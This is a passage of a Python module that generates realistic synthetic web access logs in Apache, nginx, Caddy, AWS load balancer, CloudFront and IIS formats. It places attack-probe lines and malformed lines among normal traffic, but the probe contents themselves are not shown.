    users = np.full(n, b" - - [", dtype=object)
    users[authenticated] = [
        f" - {_SERVICE_ACCOUNTS[i]} [".encode()
        for i in rng.integers(len(_SERVICE_ACCOUNTS), size=int(authenticated.sum()))
    ]
    http2 = (kind == _BROWSER) & (rng.random(n) < 0.4)
    protocol = np.where(http2, b" HTTP/2.0", b" HTTP/1.1").astype(object)
    starts = np.cumsum([0] + [len(f) for f in families[:-1]])
    clients = _Clients(
        _objects(texts),
        kind,
        users,
        agent,
        protocol,
        [(int(s), _cumulative(_zipf(len(f)))) for s, f in zip(starts, families, strict=True)],
    )
    for array in (*clients[:5], *(cum for _, cum in clients.families)):
        array.flags.writeable = False  # shared between logs through the cache
    return clients


# --- time ----------------------------------------------------------------------------------


def _second_weights(spec: LogSpec, rng: np.random.Generator) -> np.ndarray:
    """Relative request rate in each UTC second of the day, following Amsterdam's working day."""
    start = datetime.datetime.combine(spec.day, datetime.time(), tzinfo=datetime.timezone.utc)
    try:
        amsterdam = zoneinfo.ZoneInfo("Europe/Amsterdam")
        offsets = [(start + datetime.timedelta(hours=h)).astimezone(amsterdam).utcoffset() for h in range(24)]
        offset_hours = np.array([o.total_seconds() / 3600 for o in offsets])
    except zoneinfo.ZoneInfoNotFoundError:  # no tz database: the server's own offset is the best guess
        offset_hours = np.full(24, spec.utc_offset_minutes / 60)
    seconds = np.arange(_SECONDS_PER_DAY)
    local_hour = (seconds / 3600 + offset_hours[seconds // 3600]) % 24
    rate = _WEEKEND_RATE if spec.day.weekday() >= 5 else _WORKDAY_RATE
    weights = np.interp(local_hour, np.arange(24) + 0.5, rate, period=24)
    # minute-to-minute jitter, so the curve is not suspiciously smooth
    return weights * np.repeat(rng.gamma(16, 1 / 16, size=1440), 60)


def _clf_offset(minutes: int) -> str:
    sign = "+" if minutes >= 0 else "-"
    hours, mins = divmod(abs(minutes), 60)
    return f"{sign}{hours:02d}{mins:02d}"


@functools.lru_cache(maxsize=4)  # the demo and the tests make several logs of one day
def _timestamps(day: datetime.date, utc_offset_minutes: int) -> np.ndarray:
    """b'24/Nov/2026:10:15:02 +0100] "' for each UTC second of the day, formatted once."""
    offset = utc_offset_minutes * 60
    suffix = f' {_clf_offset(utc_offset_minutes)}] "'.encode()
    minutes = [f"{h:02d}:{m:02d}:".encode() for h in range(24) for m in range(60)]
    clock = [minute + b"%02d" % s for minute in minutes for s in range(60)]

    def date(shift: int) -> bytes:
        local = day + datetime.timedelta(days=shift)
        return f"{local.day:02d}/{_MONTHS[local.month - 1]}/{local.year}:".encode()

    # the UTC day starts at local clock[midnight] and crosses local midnight once
    first_date, midnight = divmod(offset, _SECONDS_PER_DAY)
    before, after = date(first_date), date(first_date + 1)
    stamps = _objects([before + c + suffix for c in clock[midnight:]] + [after + c + suffix for c in clock[:midnight]])
    stamps.flags.writeable = False  # shared between logs through the cache
    return stamps


# --- the plan of a whole log, drawn once from the seed -------------------------------------


class _Plan(NamedTuple):
    spec: LogSpec
    clients: _Clients
    line_second_end: np.ndarray  # lines before the end of each UTC second
    timestamps: np.ndarray
    ids: dict[str, _Pool]
    queries: dict[str, _Pool]
    referrers: dict[str, _Pool]
    attack_lines: np.ndarray  # sorted line numbers
    attack_kind: np.ndarray
    attack_client: np.ndarray
    attack_agent: np.ndarray
    broken_at: np.ndarray  # sorted line numbers
    broken_kind: np.ndarray


def _plan_attacks(
    spec: LogSpec, rng: np.random.Generator, clients: _Clients, line_second_end: np.ndarray
) -> tuple[np.ndarray, ...]:
    """Line numbers, kinds, clients and agents of the attack probes."""
    n = spec.lines
    burst_target = round(n * spec.attack_share * _ATTACK_BURST_SHARE)
    single_target = round(n * spec.attack_share) - burst_target
    v4_end = clients.families[1][0]
    # from the quiet half of the v4 clients (ordered by popularity), not a big customer's office
    quiet = v4_end // 2 + rng.choice(v4_end - v4_end // 2, size=_ATTACKERS - 2, replace=False)
    attackers = _objects(
        [clients.text[i] for i in quiet]
        + [
            ipaddress.IPv6Address(
                _V6_DOCUMENTATION | int(rng.integers(1 << 16)) << 80 | int(rng.integers(1, 1 << 16))
            ).compressed.encode()
            for _ in range(2)
        ]
    )
    burst_cum = _cumulative([a.burst_weight for a in _ATTACKS])
    single_cum = _cumulative([a.single_weight for a in _ATTACKS])
    lines, kinds, texts, agents = [], [], [], []
    remaining = burst_target
    while remaining > 0:
        length = min(remaining, int(rng.geometric(1 / _ATTACK_BURST_MEAN_LINES)))
        remaining -= length
        kind = int(_pick(burst_cum, rng, 1)[0])
        second = int(rng.integers(_SECONDS_PER_DAY))  # probes keep no office hours
        span = min(n, length * 3 // 2 + 1)  # normal traffic goes on between the probes
        first = min(int(line_second_end[second - 1]) if second else 0, n - span)
        lines.append(first + np.sort(rng.choice(span, size=length, replace=False)))
        kinds.append(np.full(length, kind))
        texts.append(np.full(length, attackers[min(int(rng.geometric(0.45)) - 1, _ATTACKERS - 1)], dtype=object))
        agents.append(np.full(length, _AGENT_INDEX[_ATTACKS[kind].agents[rng.integers(len(_ATTACKS[kind].agents))]]))
    if single_target > 0:
        kind = _pick(single_cum, rng, single_target)
        lines.append(rng.integers(n, size=single_target))
        kinds.append(kind)
        # anyone on the internet: any v4 or v6 client, popular or not
        v6_end = clients.families[2][0]
        texts.append(clients.text[rng.integers(v6_end, size=single_target)])
        agents.append(
            np.array(
                [_AGENT_INDEX[_ATTACKS[k].agents[rng.integers(len(_ATTACKS[k].agents))]] for k in kind.tolist()],
                dtype=np.int64,
            )
        )
    if not lines:
        return np.empty(0, np.int64), np.empty(0, np.int64), np.empty(0, object), np.empty(0, np.int64)
    line = np.concatenate(lines)
    line, first = np.unique(line, return_index=True)  # where two probes land on one line, the first wins
    return line, np.concatenate(kinds)[first], np.concatenate(texts)[first], np.concatenate(agents)[first]


def _plan(spec: LogSpec) -> _Plan:
    rng = np.random.default_rng([spec.seed, 0])
    clients = _clients_of(spec.seed)
    weights = _second_weights(spec, rng)
    line_second_end = np.cumsum(rng.multinomial(spec.lines, weights / weights.sum()))
    emails = _emails(rng)
    attacks = _plan_attacks(spec, rng, clients, line_second_end)
    broken = spec.broken_lines
    header = len(_HEADERS.get(spec.fmt, ()))
    broken_at = (
        np.sort(header + rng.choice(spec.lines - header, size=broken, replace=False))
        if broken
        else np.empty(0, np.int64)
    )
    broken_kind = rng.permutation(np.arange(broken) % 4)  # an even mix of the four kinds
    return _Plan(
        spec,
        clients,
        line_second_end,
        _timestamps(spec.day, spec.utc_offset_minutes),
        _id_pools(rng, emails),
        _query_pools(rng, spec.day, emails),
        _referrer_pools(rng, spec.day, emails),
        *attacks,
        broken_at,
        broken_kind,
    )


# --- rendering a block of lines ------------------------------------------------------------


def _status_cumulative(profiles: list[str]) -> np.ndarray:
    return np.array([_cumulative([_STATUS_PROFILES[p].get(code, 0.0) for code in _STATUSES]) for p in profiles])


def _route_table() -> dict[str, np.ndarray]:
    heads, tails = zip(*[(r.path.split("{}") + [""])[:2] for r in _ROUTES], strict=True)
    weights = np.array([r.weights for r in _ROUTES], dtype=float)
    return {
        "method": _objects([f"{r.method} ".encode() for r in _ROUTES]),
        "head": _objects([h.encode() for h in heads]),
        "tail": _objects([t.encode() for t in tails]),
        "ids": np.array([r.ids for r in _ROUTES]),
        "query": np.array([r.query for r in _ROUTES]),
        "referrer": np.array([r.referrer for r in _ROUTES]),
        "size": np.array([r.size for r in _ROUTES], dtype=float),
        "spread": np.array([r.spread for r in _ROUTES]),
        "is_head": np.array([r.method == "HEAD" for r in _ROUTES]),
        "status_cum": _status_cumulative([r.status for r in _ROUTES]),
        "kind_cum": np.array([_cumulative(column) for column in weights.T]),
    }


def _attack_table() -> dict[str, np.ndarray]:
    return {
        "method": _objects([f"{a.method} ".encode() for a in _ATTACKS]),
        "targets": [_objects([t.encode() for t in a.targets]) for a in _ATTACKS],
        "status_cum": _status_cumulative([a.status for a in _ATTACKS]),
    }


_ROUTE_TABLE = _route_table()
_ATTACK_TABLE = _attack_table()
_STATUS_TEXT = _objects([f'" {code} '.encode() for code in _STATUSES])
_STATUS_CODE = np.array(_STATUSES)
_AGENT_TEXT = _objects([f'{a.text}"\n'.encode() for a in _AGENTS])
_BROWSER_AGENT_INDEX = np.array([i for i, a in enumerate(_AGENTS) if a.group == "browser"])
_BROWSER_AGENT_CUM = _cumulative([_AGENTS[i].weight for i in _BROWSER_AGENT_INDEX])
_NO_VHOST = ("combined", "common", "combined_xff")  # formats without the virtual host
_VHOST_OF_KIND = _objects(
    [b"app.example.com:443 ", b"api.example.com:443 ", b"app.example.com:443 ", b"app.example.com:443 "]
)
# bytes texts for sizes below this are formatted once; larger ones are rare (static files)
_SMALL_SIZES = 1 << 16
_SIZE_TEXT = _objects([b"-"] + [b"%d" % v for v in range(1, _SMALL_SIZES)])


def _sizes(rng: np.random.Generator, success: np.ndarray, status: np.ndarray, no_body: np.ndarray) -> np.ndarray:
    """Response bytes as %b writes them: the body size, "-" when there is none."""
    n = len(status)
    size = success.copy()
    partial = status == 206
    size[partial] *= rng.uniform(0.02, 0.5, size=int(partial.sum()))
    redirect = (status == 301) | (status == 302)
    size[redirect] = rng.integers(180, 270, size=int(redirect.sum()))
    client_error = (status >= 400) & (status < 500)
    size[client_error] = 140 * np.exp(0.35 * rng.standard_normal(int(client_error.sum())))
    server_error = status >= 500
    size[server_error] = 420 * np.exp(0.3 * rng.standard_normal(int(server_error.sum())))
    size = np.maximum(size.astype(np.int64), 1)
    size[no_body | (status == 204) | (status == 304) | (status == 408)] = 0
    text = np.empty(n, dtype=object)
    small = size < _SMALL_SIZES
    text[small] = _SIZE_TEXT[size[small]]
    text[~small] = [b"%d" % v for v in size[~small].tolist()]
    return text


# X-Forwarded-For as a backend behind a proxy sees it: mostly none, else the client a proxy names.
_FORWARDED_SHARE = 0.2
_FORWARDED = _objects(
    [b"198.51.100.%d" % i for i in range(20, 40)]
    + [b"203.0.113.%d, 198.51.100.%d" % (i, i + 100) for i in range(40, 50)]
    + [b"2001:db8:feed::%x" % i for i in range(1, 10)]
    + [b"unknown, 192.0.2.%d" % i for i in range(60, 63)]
)


def _with_forwarded_for(agents: np.ndarray, rng: np.random.Generator) -> np.ndarray:
    """Agent pieces (`agent"\n`) with a quoted X-Forwarded-For field after them: `agent" "chain"\n`."""
    forwarded = np.full(len(agents), b"-", dtype=object)
    chosen = rng.random(len(agents)) < _FORWARDED_SHARE
    forwarded[chosen] = _FORWARDED[rng.integers(len(_FORWARDED), size=int(chosen.sum()))]
    return _mapped(agents, lambda a: a[:-1]) + b' "' + forwarded + b'"\n'


def _broken_line(rng: np.random.Generator, row: np.ndarray, kind: int) -> bytes:
    if kind == _EMPTY:
        return b"\n"
    if kind == _TRUNCATED:  # the writer died mid-line
        start = len(b"".join(row[:_METHOD]))
        length = len(b"".join(row[_METHOD : _PROTOCOL + 1]))
        return b"".join(row)[: start + int(rng.integers(length))] + b"\n"
    if kind == _MISSING_FIELDS:
        if rng.random() < 0.5:  # ends after the status
            return b"".join(row[: _STATUS + 1]).rstrip() + b"\n"
        return b"".join([*row[:_USER], b" - - ", b'"', *row[_METHOD:]])  # no time field
    noise = rng.integers(1, 256, size=int(rng.integers(20, 120)), dtype=np.uint8)
    noise[(noise == 0x0A) | (noise == 0x0D)] = 0  # bytes, never a line break
    # a TLS ClientHello sent to the plain-HTTP port, then noise with NUL and invalid UTF-8
    return b"\x16\x03\x01\x00\xf1\x01\x00\x00\xed\x03\x03" + noise.tobytes() + b"\x00\xff\xfe\x00" + b"\n"


def _render_block(plan: _Plan, first: int, stop: int, block: int) -> bytes:
    spec, clients, routes = plan.spec, plan.clients, _ROUTE_TABLE
    rng = np.random.default_rng([spec.seed, 1, block])
    n = stop - first
    pieces = np.full((n, _COLUMNS), b"", dtype=object)

    seconds = np.searchsorted(plan.line_second_end, np.arange(first, stop), side="right")
    pieces[:, _TIME] = plan.timestamps[seconds]

    shares = (
        1 - spec.ipv6_share - spec.mapped_share - spec.hostname_share,
        spec.ipv6_share,
        spec.mapped_share,
        spec.hostname_share,
    )
    family = _pick(_cumulative(shares), rng, n)
    client = np.empty(n, dtype=np.int64)
    for f, (start, cum) in enumerate(clients.families):
        members = family == f
        client[members] = start + _pick(cum, rng, int(members.sum()))
    kind = clients.kind[client]
    pieces[:, _CLIENT] = clients.text[client]
    pieces[:, _USER] = clients.user[client]
    pieces[:, _PROTOCOL] = clients.protocol[client]
    agent = clients.agent[client]
    switch = (kind == _BROWSER) & (rng.random(n) < _AGENT_SWITCH_SHARE)
    agent[switch] = _BROWSER_AGENT_INDEX[_pick(_BROWSER_AGENT_CUM, rng, int(switch.sum()))]
    if spec.fmt not in _NO_VHOST:
        pieces[:, _VHOST] = _VHOST_OF_KIND[kind]

    route = np.empty(n, dtype=np.int64)
    for k in range(len(_KIND_GROUPS)):
        members = kind == k
        route[members] = _pick(routes["kind_cum"][k], rng, int(members.sum()))
    pieces[:, _METHOD] = routes["method"][route]
    pieces[:, _PATH] = routes["head"][route]
    pieces[:, _SUFFIX] = routes["tail"][route]
    for column, pools, names in ((_ID, plan.ids, routes["ids"]), (_QUERY, plan.queries, routes["query"])):
        for name, pool in pools.items():
            members = names[route] == name
            pieces[members, column] = pool.pick(rng, int(members.sum()))
    referrer = np.empty(n, dtype=object)
    for name, pool in plan.referrers.items():
        members = routes["referrer"][route] == name
        referrer[members] = pool.pick(rng, int(members.sum()))
    referrer[kind != _BROWSER] = plan.referrers["none"].items[0]
    status = _STATUS_CODE[_draw(routes["status_cum"][route], rng)]
    success = routes["size"][route] * np.exp(routes["spread"][route] * rng.standard_normal(n))
    no_body = routes["is_head"][route].copy()

    timeout = rng.random(n) < _TIMEOUT_SHARE
    pieces[timeout, _METHOD : _PROTOCOL + 1] = b""
    pieces[timeout, _PATH] = b"-"
    status[timeout] = 408
    referrer[timeout] = plan.referrers["none"].items[0]
    agent[timeout] = _NO_AGENT

    lo, hi = np.searchsorted(plan.attack_lines, (first, stop))
    if hi > lo:
        rows = plan.attack_lines[lo:hi] - first
        attack = plan.attack_kind[lo:hi]
        pieces[rows, _CLIENT] = plan.attack_client[lo:hi]
        pieces[rows, _USER] = b" - - ["
        pieces[rows, _METHOD] = _ATTACK_TABLE["method"][attack]
        pieces[rows, _PATH] = [
            _ATTACK_TABLE["targets"][k][rng.integers(len(_ATTACK_TABLE["targets"][k]))] for k in attack.tolist()
        ]
        pieces[rows, _ID : _QUERY + 1] = b""
        pieces[rows, _PROTOCOL] = b" HTTP/1.1"
        status[rows] = _STATUS_CODE[_draw(_ATTACK_TABLE["status_cum"][attack], rng)]
        success[rows] = 2300 * np.exp(0.2 * rng.standard_normal(len(rows)))
        no_body[rows] = False
        referrer[rows] = plan.referrers["none"].items[0]
        agent[rows] = plan.attack_agent[lo:hi]
        if spec.fmt not in _NO_VHOST:
            pieces[rows, _VHOST] = _VHOST_OF_KIND[_BROWSER]

    pieces[:, _STATUS] = _STATUS_TEXT[np.searchsorted(_STATUS_CODE, status)]
    pieces[:, _BYTES] = _sizes(rng, success, status, no_body)
    if spec.fmt in _RENDERERS:
        return _render_other(plan, _requests(pieces, seconds, status, referrer, agent), first, block)
    if spec.fmt == "common":
        pieces[:, _REFERRER] = b"\n"
    else:
        pieces[:, _REFERRER] = referrer
        pieces[:, _AGENT] = _AGENT_TEXT[agent]
    if spec.fmt == "combined_xff":
        pieces[:, _AGENT] = _with_forwarded_for(pieces[:, _AGENT], np.random.default_rng([spec.seed, 6, block]))

    lo, hi = np.searchsorted(plan.broken_at, (first, stop))
    for line, kind_of_break in zip(plan.broken_at[lo:hi].tolist(), plan.broken_kind[lo:hi].tolist(), strict=True):
        row = line - first
        text = _broken_line(rng, pieces[row], kind_of_break)
        pieces[row] = b""
        pieces[row, 0] = text
    return b"".join(pieces.ravel().tolist())


# --- other formats: the same requests, written as proxies, load balancers and CDNs write them ---------------


class _Requests(NamedTuple):
    """A block's requests as plain values (object arrays of bytes unless said), for formats other than Apache's."""

    seconds: np.ndarray  # UTC second of the day (int)
    client: np.ndarray
    user: np.ndarray  # b"-" or the authenticated name
    method: np.ndarray  # b"GET"; b"-" for a connection that sent no request
    target: np.ndarray  # b"/a?b=1" as the client sent it; b"-" when none
    protocol: np.ndarray  # b"HTTP/1.1"; b"-" when none
    status: np.ndarray  # int
    size: np.ndarray  # int: response body bytes
    referrer: np.ndarray  # b"-" when none
    agent: np.ndarray  # int: index into _AGENTS
    host: np.ndarray  # b"app.example.com"


def _mapped(values: np.ndarray, convert) -> np.ndarray:
    """`convert` of each value, computed once per distinct value (pieces come from small pools)."""
    memo: dict = {}
    out = np.empty(len(values), dtype=object)
    out[:] = [memo[v] if v in memo else memo.setdefault(v, convert(v)) for v in values.tolist()]
    return out


def _requests(pieces: np.ndarray, seconds: np.ndarray, status: np.ndarray, referrer: np.ndarray,
              agent: np.ndarray) -> _Requests:  # fmt: skip
    """The plain values behind a block's Apache pieces."""
    target = pieces[:, _PATH] + pieces[:, _ID] + pieces[:, _SUFFIX] + pieces[:, _QUERY]
    return _Requests(
        seconds,
        pieces[:, _CLIENT],
        _mapped(pieces[:, _USER], lambda p: p[3:-2]),  # b" - svc-payroll [" -> b"svc-payroll"
        _mapped(pieces[:, _METHOD], lambda p: p.strip() or b"-"),
        _mapped(target, lambda t: _apache_unescaped(t) if b"\\" in t else t),
        _mapped(pieces[:, _PROTOCOL], lambda p: p.strip() or b"-"),
        status,
        np.array(_mapped(pieces[:, _BYTES], lambda b: 0 if b == b"-" else int(b)).tolist(), dtype=np.int64),
        _mapped(referrer, lambda r: r[2:-3]),  # b' "https://..." "' -> b"https://..."
        agent,
        _mapped(pieces[:, _VHOST], lambda v: v.rsplit(b":", 1)[0]),  # b"app.example.com:443 " -> host
    )


def _apache_unescaped(text: bytes) -> bytes:
    """What a client sent, from Apache's escaped text of it (`\\"` -> `"`, `\\xe5` -> byte e5)."""
    return unescape(text.decode()).encode()


_AGENT_RAW = [_apache_unescaped(a.text.encode()) for a in _AGENTS]


def _json_text(raw: bytes) -> bytes:
    """Inside a JSON string, as Caddy and nginx's `escape=json` write it."""
    return json.dumps(raw.decode(), ensure_ascii=False)[1:-1].encode()


def _hex_escaped(raw: bytes) -> bytes:
    """Inside an AWS load balancer's quoted field: `"`, `\\` and bytes outside printable ASCII as `\\xHH`."""
    return b"".join(bytes([c]) if 32 <= c < 127 and c not in b'"\\' else b"\\x%02x" % c for c in raw)


# CloudFront encodes these (and `%`, so a client's `%20` is logged `%2520`); the rest stays as sent.
_CLOUDFRONT_SAFE = "!$&'()*+,-./:;=?@_~[]"


def _cloudfront_text(raw: bytes) -> bytes:
    return urllib.parse.quote(raw, safe=_CLOUDFRONT_SAFE).encode()


def _plus_spaces(raw: bytes) -> bytes:
    """IIS writes a space in a header as `+`."""
    return raw.replace(b" ", b"+")


@functools.lru_cache(maxsize=16)
def _agent_texts(encode) -> np.ndarray:
    return _objects([encode(raw) if raw != b"-" else raw for raw in _AGENT_RAW])


@functools.lru_cache(maxsize=16)
def _second_texts(day: datetime.date, style: str, utc_offset_minutes: int = 0) -> np.ndarray:
    """Each UTC second of the day as a format writes it, formatted once."""
    start = datetime.datetime.combine(day, datetime.time(), tzinfo=datetime.timezone.utc)
    zone = datetime.timezone(datetime.timedelta(minutes=utc_offset_minutes))
    formats = {
        "iso": "%Y-%m-%dT%H:%M:%S",  # fraction and Z follow
        "iso_local": "%Y-%m-%dT%H:%M:%S%z",
        "w3c": "%Y-%m-%d %H:%M:%S",
        "w3c_tab": "%Y-%m-%d\t%H:%M:%S",
    }
    texts = []
    for second in range(_SECONDS_PER_DAY):
        moment = start + datetime.timedelta(seconds=second)
        if style == "epoch":
            texts.append(b"%d" % moment.timestamp())
        elif style == "iso_local":
            text = moment.astimezone(zone).strftime(formats[style])
            texts.append((text[:-2] + ":" + text[-2:]).encode())  # +01:00, as nginx's $time_iso8601
        else:
            texts.append(moment.strftime(formats[style]).encode())
    stamps = _objects(texts)
    stamps.flags.writeable = False
    return stamps


_MILLIS = _objects([b"%03d" % v for v in range(1000)])
_PORTS = _objects([b"%d" % v for v in range(65536)])
# Durations in whole milliseconds up to a minute, as seconds with three decimals and as milliseconds.
_MAX_MS = 60_000
_SECONDS_TEXT = _objects([b"%d.%03d" % divmod(v, 1000) for v in range(_MAX_MS + 1)])
_MS_TEXT = _objects([b"%d" % v for v in range(_MAX_MS + 1)])
_STATUS_DIGITS = _objects([b"%d" % code for code in _STATUSES])


class _Extras(NamedTuple):
    """What the richer formats log beyond Apache's fields, drawn for each request."""

    duration_ms: np.ndarray  # int, whole milliseconds
    upstream_ms: np.ndarray  # int, of which the backend took; -1 when it never answered
    request_bytes: np.ndarray  # int
    port: np.ndarray  # int, the client's source port
    millis: np.ndarray  # int, the millisecond within the second
    micros: np.ndarray  # int, the microseconds after the milliseconds
    http2: np.ndarray  # bool


def _extras(rng: np.random.Generator, requests: _Requests) -> _Extras:
    n = len(requests.status)
    static = np.char.startswith(requests.target.astype(bytes), b"/static/")
    duration = np.where(static, 2, 40) * np.exp(0.9 * rng.standard_normal(n))
    duration = np.minimum(duration.astype(np.int64) + 1, _MAX_MS)
    upstream = np.maximum(duration - rng.integers(0, 3, size=n), 0)
    no_upstream = (requests.status == 502) | (requests.status == 503) | (requests.status == 408)
    upstream[no_upstream] = -1
    body = requests.method != b"GET"
    request_bytes = rng.integers(180, 900, size=n) + np.where(body, rng.integers(0, 4000, size=n), 0)
    return _Extras(duration, upstream, request_bytes, rng.integers(1024, 65536, size=n),
                   rng.integers(0, 1000, size=n), rng.integers(0, 1000, size=n),
                   requests.protocol == b"HTTP/2.0")  # fmt: skip


def _status_text(status: np.ndarray) -> np.ndarray:
    return _STATUS_DIGITS[np.searchsorted(_STATUS_CODE, status)]


def _size_text(size: np.ndarray) -> np.ndarray:
    text = np.empty(len(size), dtype=object)
    small = size < _SMALL_SIZES
    text[small] = _SIZE_TEXT[np.maximum(size[small], 0)]
    text[small & (size == 0)] = b"0"
    text[~small] = [b"%d" % v for v in size[~small].tolist()]
    return text


def _seconds_text(ms: np.ndarray, missing: bytes = b"-1") -> np.ndarray:
    text = _SECONDS_TEXT[np.clip(ms, 0, _MAX_MS)].copy()
    text[ms < 0] = missing
    return text


def _split_target(target: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """(path, query or b"-") of each target."""
    parts = _mapped(target, lambda t: tuple(t.split(b"?", 1)) if b"?" in t else (t, b"-"))
    return _mapped(parts, lambda p: p[0]), _mapped(parts, lambda p: p[1])


def _caddy_json(spec: LogSpec, r: _Requests, x: _Extras) -> list:
    seconds = _second_texts(spec.day, "epoch")[r.seconds]
    agent = _agent_texts(_json_text)[r.agent]
    headers = np.where(r.agent == _NO_AGENT, b"", b'"User-Agent":["' + agent + b'"]')
    referrer = np.where(r.referrer == b"-", b"", b'"Referer":["' + _mapped(r.referrer, _json_text) + b'"]')
    headers = headers + np.where((headers != b"") & (referrer != b""), b",", b"") + referrer
    return [
        b'{"level":"info","ts":', seconds, b".", _MILLIS[x.millis],
        b',"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"', r.client,
        b'","remote_port":"', _PORTS[x.port], b'","proto":"', r.protocol, b'","method":"', r.method,
        b'","host":"', r.host, b'","uri":"', _mapped(r.target, _json_text), b'","headers":{', headers,
        b'}},"user_id":"', _mapped(r.user, lambda u: b"" if u == b"-" else _json_text(u)),
        b'","duration":0.', _MILLIS[np.minimum(x.duration_ms, 999)], b',"size":', _size_text(r.size),
        b',"status":', _status_text(r.status), b"}\n",
    ]  # fmt: skip


def _nginx_json(spec: LogSpec, r: _Requests, x: _Extras) -> list:
    request = np.where(r.method == b"-", b"", r.method + b" " + _mapped(r.target, _json_text) + b" " + r.protocol)
    return [
        b'{"time":"', _second_texts(spec.day, "iso_local", spec.utc_offset_minutes)[r.seconds],
        b'","remote_addr":"', r.client, b'","remote_user":"', _mapped(r.user, _json_text), b'","request":"', request,
        b'","status":"', _status_text(r.status), b'","body_bytes_sent":"', _size_text(r.size),
        b'","request_time":"', _seconds_text(x.duration_ms), b'","http_referer":"', _mapped(r.referrer, _json_text),
        b'","http_user_agent":"', _agent_texts(_json_text)[r.agent], b'","http_x_forwarded_for":"-","host":"', r.host,
        b'"}\n',
    ]  # fmt: skip


def _load_balancer_request(r: _Requests) -> np.ndarray:
    """`GET https://app.example.com:443/a?b=1 HTTP/1.1`: AWS logs the target in absolute form."""
    target = _mapped(r.target, _hex_escaped)
    return np.where(
        r.method == b"-", b"- - - ", r.method + b" https://" + r.host + b":443" + target + b" " + r.protocol
    )


def _aws_times(spec: LogSpec, r: _Requests, x: _Extras) -> tuple:
    upstream = _seconds_text(x.upstream_ms)
    rest = np.where(x.upstream_ms < 0, -1, np.maximum(x.duration_ms - x.upstream_ms, 0))
    return (_second_texts(spec.day, "iso")[r.seconds], b".", _MILLIS[x.millis], _MILLIS[x.micros], b"Z ",
            upstream, rest)  # fmt: skip


_TLS = b"ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2"
_TARGET_GROUP = b"arn:aws:elasticloadbalancing:eu-central-1:123456789012:targetgroup/app-web/73e2d6bc24d8a067"
_CERTIFICATE = b"arn:aws:acm:eu-central-1:123456789012:certificate/3f9c2a1b-8e41-4d07-b2c4-7e907d10e5f2"


def _aws_alb(spec: LogSpec, r: _Requests, x: _Extras) -> list:
    stamp, dot, millis, micros, z, upstream, rest = _aws_times(spec, r, x)
    answered = x.upstream_ms >= 0
    target_status = np.where(answered, _status_text(r.status), b"-")
    backend = np.where(answered, b"10.0.1.17:8080", b"-")
    trace = _mapped(r.seconds, lambda s: b"%08x" % (1764000000 + s)) + b"-" + _PORTS[x.port] + _MILLIS[x.micros]
    return [
        np.where(x.http2, b"h2 ", b"https "), stamp, dot, millis, micros, z,
        b"app/app-web/50dc6c495c0c9188 ", r.client, b":", _PORTS[x.port], b" ", backend, b" 0.000 ", upstream, b" ",
        _seconds_text(rest), b" ", _status_text(r.status), b" ", target_status, b" ", _size_text(x.request_bytes),
        b" ", _size_text(r.size), b' "', _load_balancer_request(r), b'" "', _agent_texts(_hex_escaped)[r.agent],
        b'" ', _TLS, b" ", _TARGET_GROUP, b' "Root=1-', trace, b'" "', r.host, b'" "', _CERTIFICATE, b'" 0 ',
        stamp, dot, millis, b'000Z "forward" "-" "-" "', backend, b'" "', target_status, b'" "-" "-" TID_',
        _PORTS[x.port], _MILLIS[x.millis], b"\n",
    ]  # fmt: skip


def _aws_elb_classic(spec: LogSpec, r: _Requests, x: _Extras) -> list:
    stamp, dot, millis, micros, z, upstream, rest = _aws_times(spec, r, x)
    answered = x.upstream_ms >= 0
    return [
        stamp, dot, millis, micros, z, b"app-web ", r.client, b":", _PORTS[x.port], b" ",
        np.where(answered, b"10.0.1.17:8080", b"-"), b" 0.000041 ", upstream, b" ", _seconds_text(rest), b" ",
        _status_text(r.status), b" ", np.where(answered, _status_text(r.status), b"-"), b" ",
        _size_text(x.request_bytes), b" ", _size_text(r.size), b' "', _load_balancer_request(r), b'" "',
        _agent_texts(_hex_escaped)[r.agent], b'" ', _TLS, b"\n",
    ]  # fmt: skip


_EDGE_LOCATIONS = _objects([b"AMS1-C1", b"AMS54-C1", b"FRA56-P1", b"LHR61-C2", b"CDG50-C1"])
CLOUDFRONT_FIELDS = (
    "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) "
    "cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken "
    "x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status "
    "fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len "
    "sc-range-start sc-range-end"
)


def _cloudfront(spec: LogSpec, r: _Requests, x: _Extras) -> list:
    path, query = _split_target(r.target)
    static = np.char.startswith(path.astype(bytes), b"/static/")
    result = np.where(r.status >= 500, b"Error", np.where(static, b"Hit", b"Miss"))
    result = np.where((r.status >= 400) & (r.status < 500), b"Error", result)
    request_id = _mapped(r.seconds, lambda s: b"%05x" % s) + _PORTS[x.port] + _MILLIS[x.millis] + b"Xk7dQ=="
    encoded = [_mapped(values, _cloudfront_text) for values in (path, r.referrer, query)]
    t = b"\t"
    return [
        _second_texts(spec.day, "w3c_tab")[r.seconds], t, _EDGE_LOCATIONS[x.port % len(_EDGE_LOCATIONS)], t,
        _size_text(r.size + 350), t, r.client, t, r.method, t, b"d111111abcdef8.cloudfront.net", t, encoded[0], t,
        _status_text(r.status), t, encoded[1], t, _agent_texts(_cloudfront_text)[r.agent], t, encoded[2],
        b"\t-\t", result, t, request_id, t, r.host, b"\thttps\t", _size_text(x.request_bytes), t,
        _seconds_text(x.duration_ms), b"\t-\tTLSv1.3\tTLS_AES_128_GCM_SHA256\t", result, t, r.protocol,
        b"\t-\t-\t", _PORTS[x.port], t, _seconds_text(x.duration_ms), t, result,
        np.where(static, b"\tapplication/javascript", b"\tapplication/json"), b"\t-\t-\t-\n",
    ]  # fmt: skip


IIS_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
    "sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken"
)


def _w3c(spec: LogSpec, r: _Requests, x: _Extras) -> list:
    path, query = _split_target(r.target)
    return [
        _second_texts(spec.day, "w3c")[r.seconds], b" 10.0.1.17 ", r.method, b" ", path, b" ", query, b" 443 ",
        r.user, b" ", r.client, b" ", _agent_texts(_plus_spaces)[r.agent], b" ", r.referrer, b" ",
        _status_text(r.status), b" 0 0 ", _size_text(r.size), b" ", _size_text(x.request_bytes), b" ",
        _MS_TEXT[x.duration_ms], b"\n",
